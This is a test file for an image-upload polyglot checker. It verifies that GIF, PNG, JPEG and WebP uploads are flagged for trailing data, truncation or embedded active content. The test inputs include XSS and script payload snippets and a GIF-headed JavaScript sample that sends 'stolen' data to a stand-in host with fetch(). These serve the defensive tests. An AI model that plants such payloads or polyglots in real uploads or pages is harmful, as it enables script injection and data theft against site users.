import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Readable } from 'node:stream';
import { checkStructure, looksLikeText } from './polyglot-check';

/** A minimal structurally valid GIF: header, screen descriptor, one 1×1 frame, trailer. */
const GIF = Buffer.from('474946383961010001000000002c000000000100010000020144003b', 'hex');
const PNG_IEND = Buffer.from('0000000049454e44ae426082', 'hex');
const PNG = Buffer.concat([Buffer.from('89504e470d0a1a0a0000000d49484452000000010000000108000000003a7e9b55', 'hex'), PNG_IEND]);

describe('checkStructure', () => {
  let dir: string;
  beforeAll(async () => {
    dir = await mkdtemp(join(tmpdir(), 'polyglot-spec-'));
  });
  afterAll(() => rm(dir, { recursive: true, force: true }));

  /** Checks the bytes as a spooled file and as an in-memory upload; both must agree. */
  async function check(bytes: Buffer, mime: Parameters<typeof checkStructure>[1]) {
    const path = join(dir, `f-${Math.random().toString(36).slice(2)}`);
    await writeFile(path, bytes);
    const upload = { bytes: bytes.length, sha256: '', head: bytes.subarray(0, 4096), open: () => Readable.from([bytes]), dispose: async () => {} };
    const fromFile = await checkStructure({ ...upload, buffer: null, path }, mime);
    const fromMemory = await checkStructure({ ...upload, buffer: bytes, path: null }, mime);
    expect(fromMemory).toEqual(fromFile);
    return fromFile;
  }

  it('passes a clean GIF and PNG', async () => {
    expect(await check(GIF, 'image/gif')).toEqual({ polyglot: null, truncated: false });
    expect(await check(PNG, 'image/png')).toEqual({ polyglot: null, truncated: false });
  });

  it('tolerates a GIF without its trailer but flags one cut inside a block', async () => {
    expect(await check(GIF.subarray(0, GIF.length - 1), 'image/gif')).toEqual({ polyglot: null, truncated: false });
    expect(await check(GIF.subarray(0, GIF.length - 4), 'image/gif')).toEqual({ polyglot: null, truncated: true });
    expect(await check(PNG.subarray(0, PNG.length - 6), 'image/png')).toEqual({ polyglot: null, truncated: true });
  });

  it.each([
    ['GIF', GIF, 'image/gif'],
    ['PNG', PNG, 'image/png'],
  ] as const)('flags bytes after the end of a %s', async (_name, image, mime) => {
    expect((await check(Buffer.concat([image, Buffer.from('x')]), mime)).polyglot).toBe('trailing_data');
  });

  it.each(['<script>', '<SCRIPT src=x>', '< svg onload=1>', '<!DOCTYPE html>', '<html>', '<iframe', '<?php echo 1; ?>', '%PDF-1.4', 'javascript:alert(1)', 'alert (1)', 'eval(atob("x"))', 'document.cookie', 'window.location'])(
    'flags active content %j at the start or the end',
    async (payload) => {
      const head = Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xfe, 0, 60]), Buffer.from(payload), Buffer.alloc(5000, 0x11)]);
      expect((await check(head, 'image/jpeg')).polyglot).toBe('active_content');
      const tail = Buffer.concat([Buffer.from([0xff, 0xd8, 0xff]), Buffer.alloc(5000, 0x11), Buffer.from(payload)]);
      expect((await check(tail, 'image/jpeg')).polyglot).toBe('active_content');
    },
  );

  it('does not flag active content hidden in the middle of a large file (browsers sniff the edges)', async () => {
    const middle = Buffer.concat([Buffer.from([0xff, 0xd8, 0xff]), Buffer.alloc(5000, 0x11), Buffer.from('<script>'), Buffer.alloc(5000, 0x11)]);
    expect((await check(middle, 'image/jpeg')).polyglot).toBeNull();
  });

  it('lets JPEG carry data after EOI', async () => {
    expect((await check(Buffer.concat([Buffer.from('ffd8ffd9', 'hex'), Buffer.alloc(100, 7)]), 'image/jpeg')).polyglot).toBeNull();
  });

  /** SOI, an APP1 whose payload holds an EOI of its own (an EXIF thumbnail), a 1×1 frame, tables, SOS, scan data, EOI. */
  const JPEG = Buffer.from(
    'ffd8' +
      'ffe1000a' + 'ffd8ffd9ffd9ffd9' +
      'ffc0000b080001000101011100' +
      'ffc40014' + '00' + '01' + '00'.repeat(15) + '00' +
      'ffda0008010100003f00' +
      'd2cfff0012' +
      'ffd9',
    'hex',
  );

  it('passes a whole JPEG, and one with data after its EOI', async () => {
    expect(await check(JPEG, 'image/jpeg')).toEqual({ polyglot: null, truncated: false });
    expect(await check(Buffer.concat([JPEG, Buffer.alloc(100_000, 7)]), 'image/jpeg')).toEqual({ polyglot: null, truncated: false });
  });

  it('flags a JPEG whose scan data is not followed by an EOI, even when a thumbnail before the scan has one', async () => {
    expect(await check(JPEG.subarray(0, JPEG.length - 2), 'image/jpeg')).toEqual({ polyglot: null, truncated: true });
    expect(await check(JPEG.subarray(0, JPEG.length - 4), 'image/jpeg')).toEqual({ polyglot: null, truncated: true });
    // Long scan data without EOI: found missing across read windows too.
    const long = Buffer.concat([JPEG.subarray(0, JPEG.length - 2), Buffer.alloc(200_000, 0x12)]);
    expect(await check(long, 'image/jpeg')).toEqual({ polyglot: null, truncated: true });
    // An EOI split across two read windows is found.
    for (const pad of [65_535, 65_536, 131_070]) {
      expect(await check(Buffer.concat([JPEG.subarray(0, JPEG.length - 2), Buffer.alloc(pad, 0x12), Buffer.from('ffd9', 'hex')]), 'image/jpeg')).toEqual({ polyglot: null, truncated: false });
    }
  });

  it('leaves JPEGs whose markers it cannot walk to the decoder', async () => {
    expect(await check(Buffer.from('ffd8ffd9', 'hex'), 'image/jpeg')).toEqual({ polyglot: null, truncated: false });
    expect(await check(Buffer.from('ffd80011223344', 'hex'), 'image/jpeg')).toEqual({ polyglot: null, truncated: false });
    expect(await check(Buffer.from('ffd8ffe1ffff0000', 'hex'), 'image/jpeg')).toEqual({ polyglot: null, truncated: false });
  });

  /**
   * A PNG (no IDAT: the walk does not need one) whose IHDR is followed by a `shift`-byte ancillary
   * chunk, `count` empty ones (the walk does not check CRCs), then IEND.
   */
  function chunkyPng(count: number, shift = 0): Buffer {
    const chunk = Buffer.from('0000000070725674ffffffff', 'hex'); // length 0, "prVt", a CRC
    const padding = Buffer.concat([Buffer.alloc(4), Buffer.from('prVt'), Buffer.alloc(shift), Buffer.alloc(4)]);
    padding.writeUInt32BE(shift, 0);
    return Buffer.concat([PNG.subarray(0, PNG.length - PNG_IEND.length), padding, Buffer.alloc(count * chunk.length).fill(chunk), PNG_IEND]);
  }

  /** Microtask turns until the promise settles (capped): per-chunk awaits show up as one turn or more per chunk. */
  async function turnsToSettle(promise: Promise<unknown>): Promise<number> {
    let settled = false;
    void promise.then(() => (settled = true));
    let turns = 0;
    while (!settled && turns < 2_000_000) {
      await Promise.resolve();
      turns++;
    }
    return turns;
  }

  it('walks an in-memory PNG of tiny chunks without waiting per chunk', async () => {
    const big = chunkyPng(87_000);
    expect(big.length).toBeGreaterThan(1_000_000);
    const inMemory = (bytes: Buffer) => ({ bytes: bytes.length, sha256: '', head: bytes.subarray(0, 4096), open: () => Readable.from([bytes]), dispose: async () => {}, buffer: bytes, path: null });
    const small = await turnsToSettle(checkStructure(inMemory(PNG), 'image/png'));
    expect(await turnsToSettle(checkStructure(inMemory(big), 'image/png'))).toBe(small);
    expect(await checkStructure(inMemory(big), 'image/png')).toEqual({ polyglot: null, truncated: false });
  });

  it('gives the same verdicts for a spooled file and an in-memory upload when blocks straddle read windows', async () => {
    // 6,000 empty chunks put chunk headers across the 64 KiB window boundary; every shift moves them by one byte.
    for (let shift = 0; shift < 12; shift++) {
      const png = chunkyPng(6_000, shift);
      expect(await check(png, 'image/png')).toEqual({ polyglot: null, truncated: false });
      expect(await check(Buffer.concat([png, Buffer.from('x')]), 'image/png')).toEqual({ polyglot: 'trailing_data', truncated: false });
      for (const cut of [65_530, 65_536, 65_541, png.length - 13, png.length - 1]) {
        expect(await check(png.subarray(0, cut), 'image/png')).toEqual({ polyglot: null, truncated: true });
      }
    }
    // A GIF comment made of 1-byte sub-blocks across two windows, a frame, and its trailer.
    for (let shift = 0; shift < 3; shift++) {
      const comment = Buffer.concat([Buffer.from([0x21, 0xfe]), Buffer.alloc(2 * 40_000 + shift * 2).fill(Buffer.from([1, 0x41])), Buffer.from([0])]);
      const gif = Buffer.concat([GIF.subarray(0, 13), comment, GIF.subarray(13)]);
      expect(await check(gif, 'image/gif')).toEqual({ polyglot: null, truncated: false });
      expect(await check(Buffer.concat([gif, Buffer.from('x')]), 'image/gif')).toEqual({ polyglot: 'trailing_data', truncated: false });
      expect(await check(gif.subarray(0, gif.length - 1), 'image/gif')).toEqual({ polyglot: null, truncated: false });
      for (const cut of [65_535, 65_536, 65_537, gif.length - 4]) {
        expect(await check(gif.subarray(0, cut), 'image/gif')).toEqual({ polyglot: null, truncated: true });
      }
    }
    // A JPEG whose markers (with fill bytes) and segment lengths straddle the window boundary.
    for (let shift = 0; shift < 10; shift++) {
      const app = Buffer.alloc(2 + 65_526 + shift, 0x20);
      app.writeUInt16BE(0xffe2, 0);
      app.writeUInt16BE(65_526 + shift, 2);
      const segments = Buffer.concat([app, Buffer.from('ffffffe30004abcd', 'hex')]);
      const jpeg = Buffer.concat([JPEG.subarray(0, 2), segments, JPEG.subarray(2)]);
      expect(await check(jpeg, 'image/jpeg')).toEqual({ polyglot: null, truncated: false });
      expect(await check(jpeg.subarray(0, jpeg.length - 2), 'image/jpeg')).toEqual({ polyglot: null, truncated: true });
      for (const cut of [65_535, 65_536, 65_537, 65_540]) {
        expect(await check(jpeg.subarray(0, cut), 'image/jpeg')).toEqual({ polyglot: null, truncated: false });
      }
    }
  });

  it('flags a WebP with bytes beyond its RIFF size', async () => {
    const riff = Buffer.alloc(20);
    riff.write('RIFF', 0, 'latin1');
    riff.writeUInt32LE(12, 4);
    riff.write('WEBP', 8, 'latin1');
    expect((await check(riff, 'image/webp')).polyglot).toBeNull();
    expect((await check(Buffer.concat([riff, Buffer.from('tail')]), 'image/webp')).polyglot).toBe('trailing_data');
  });
});

describe('looksLikeText', () => {
  it('is true for a text file with an image signature glued on', () => {
    expect(looksLikeText(Buffer.from('GIF89a/*xxxxxxxx*/=1;var payload = "stolen"; fetch("//example.test/?" + payload);'))).toBe(true);
  });
  it('is false for binary image headers and for short samples', () => {
    expect(looksLikeText(Buffer.concat([GIF, Buffer.alloc(100, 0)]))).toBe(false);
    expect(looksLikeText(Buffer.from('GIF89a short'))).toBe(false);
  });
});
